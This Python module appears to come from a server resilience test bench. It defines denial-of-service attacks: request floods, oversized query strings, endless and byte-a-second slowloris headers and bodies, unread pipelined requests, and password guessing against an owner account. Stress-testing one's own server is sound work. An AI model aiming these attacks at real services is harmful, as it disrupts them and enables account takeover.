"""Floods of HTTP requests, and requests that never end."""

from __future__ import annotations

import json
from collections.abc import Callable

from .people import NAMES, OWNER, PASSWORD, attacker
from .script import Attack, Script, over_and_over

_SLOW = 1_000
_SLOW_SECONDS = 1.0
_QUERY_BYTES = 60_000


def get(target: str, headers: str = "") -> bytes:
    """A request that keeps its connection (RFC 9112 section 9.3)."""
    return f"GET {target} HTTP/1.1\r\nHost: bench\r\n{headers}\r\n".encode()


def post(target: str, **fields: object) -> bytes:
    """A request with a JSON body."""
    body = json.dumps(fields).encode()
    return (
        f"POST {target} HTTP/1.1\r\nHost: bench\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode() + body


def flood(request: bytes, *, reads: bool = True) -> Callable[[int, int], Script]:
    """The same request again and again, without waiting for answers (RFC 9112 section 9.3.2)."""
    load = over_and_over(request)

    def script(number: int, connections: int) -> Script:
        return Script(b"", load=load, reads=reads)

    return script


def _endless(opening: bytes, piece: bytes, pause_seconds: float = 0.0) -> Callable[[int, int], Script]:
    """What begins with this and then never ends."""
    load = over_and_over(piece) if pause_seconds == 0 else lambda: iter(lambda: piece, None)

    def script(number: int, connections: int) -> Script:
        return Script(opening, load=load, pause_seconds=pause_seconds)

    return script


def _right_passwords(number: int, connections: int) -> Script:
    request = post("/api/v1/sessions", name=NAMES[attacker(number)], password=PASSWORD)
    return Script(b"", load=over_and_over(request))


def _wrong_passwords(number: int, connections: int) -> Script:
    requests = [post("/api/v1/sessions", name=NAMES[OWNER], password=f"guess {number}-{n:04}") for n in range(500)]
    return Script(b"", load=over_and_over(b"".join(requests)))


_QUERY = "/socket.io/?EIO=4&transport=polling&sid=nobody&" + "&".join(["a=b"] * (_QUERY_BYTES // 4))

REQUEST_FLOODS = (
    Attack(
        "endless-header", "one endless HTTP header", _endless(b"GET / HTTP/1.1\r\nHost: bench\r\nX-Endless: ", b"a")
    ),
    Attack("query", "60 KB query strings", flood(get(_QUERY))),
    Attack("right-password", "right passwords", _right_passwords, asks_password=True),
    Attack("wrong-password", "wrong passwords for one name", _wrong_passwords, asks_password=True),
    Attack("unread-answers", "pipelined GETs, answers not read", flood(get("/"), reads=False)),
    Attack(
        "slow-heads",
        "heads, a byte a second",
        _endless(b"GET / HTTP/1.1\r\nHost: bench\r\nX-Slow: ", b"a", _SLOW_SECONDS),
        connections=(_SLOW,),
    ),
    Attack(
        "slow-bodies",
        "bodies, a byte a second",
        _endless(
            b"POST /api/v1/sessions HTTP/1.1\r\nHost: bench\r\nContent-Type: application/json\r\n"
            b"Content-Length: 60000\r\n\r\n",
            b" ",
            _SLOW_SECONDS,
        ),
        connections=(_SLOW,),
    ),
)
